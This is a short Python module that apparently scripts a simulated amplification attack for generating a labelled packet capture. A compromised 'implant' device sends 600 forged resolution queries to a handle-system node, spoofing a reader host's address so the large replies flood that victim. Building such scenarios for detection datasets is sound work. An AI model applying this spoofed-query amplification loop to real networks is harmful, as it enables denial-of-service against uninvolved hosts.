"""A device in the cell asks the node in another's name: each datagram brings the victim a reply many times as long."""

from __future__ import annotations

import asyncio

from pcaps.scenarios.rig import handle_message as hdl
from pcaps.scenarios.rig.forgery import ForgedDatagrams
from pcaps.scenarios.rig.handle_message import Message
from pcaps.scenarios.rig.node import PREFIX
from pcaps.scenarios.rig.park import IDENTIFIERS
from pcaps.scenarios.rig.registrar import NODE, make_scenario
from pcaps.scenarios.rig.stage import Stage

_QUESTIONS = 600


async def attack(stage: Stage) -> None:
    """Ask 600 times for the fattest handle there is, with the reader's address as source."""
    await stage.until(20)
    stage.mark()
    victim = IDENTIFIERS.host("reader").ip
    with ForgedDatagrams() as forged:
        for _ in range(_QUESTIONS):
            question = Message(hdl.RESOLUTION, hdl.ask(f"{PREFIX}/LINE1"), stage.random.randrange(1 << 32))
            forged.send(question.datagrams()[0], (victim, 30120), (NODE, hdl.PORT))
            await asyncio.sleep(0.005)


SCENARIO = make_scenario(
    "handle_amplification.pcap.gz", 56, 60, {"implant": attack}, time_scale=3, strangers=("implant",)
)
